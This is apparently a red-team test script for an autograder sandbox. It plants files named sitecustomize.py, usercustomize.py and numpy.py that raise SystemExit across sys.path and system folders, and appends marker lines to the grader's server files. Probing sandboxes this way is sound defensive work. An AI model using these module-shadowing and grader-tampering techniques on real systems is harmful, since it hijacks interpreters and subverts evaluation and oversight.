# aims at: records
# cell: helper
# Writes wherever it might be found again: libraries, compiled modules, start-up files, shared folders.
import os
import sys

for folder in [*sys.path, "{course}", "{repository}", "{repository}/helpers", "{repository}/grading/sandbox", "/", "/dev", "/dev/shm", "/tmp", "/var/tmp",
               "/usr/lib", os.path.expanduser("~"), os.path.dirname(sys.executable), os.path.dirname(os.__file__), "/proc/self", "/run", "/root", "/home", "/jail", "/jail/course/helpers", "/jail/server"]:  # fmt: skip
    for name in ("red-team-planted", "sitecustomize.py", "usercustomize.py", "numpy.py", "__pycache__/red-team-planted.pyc"):
        try:
            os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write("raise SystemExit('red-team-planted')")
            print(os.path.join(folder, name))
        except OSError:
            pass
for module in ("server.py", "student.py", "wire.py"):
    try:
        open("/jail/server/" + module, "a").write("# red-team-planted")
    except OSError:
        pass
